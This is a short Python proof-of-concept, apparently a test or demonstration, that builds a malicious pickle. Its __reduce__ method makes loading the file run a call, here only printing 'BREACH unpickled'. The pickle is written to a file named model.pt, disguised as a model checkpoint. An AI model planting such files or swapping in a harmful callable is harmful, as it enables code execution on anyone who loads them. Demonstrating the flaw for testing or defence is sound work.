# /// attack
# title = "a pickle that runs code where it is loaded"
# ends = "finished"
# ///
import pickle
class Payload:
    def __reduce__(self): return (print, ("BREACH unpickled",))
open("model.pt", "wb").write(pickle.dumps(Payload()))
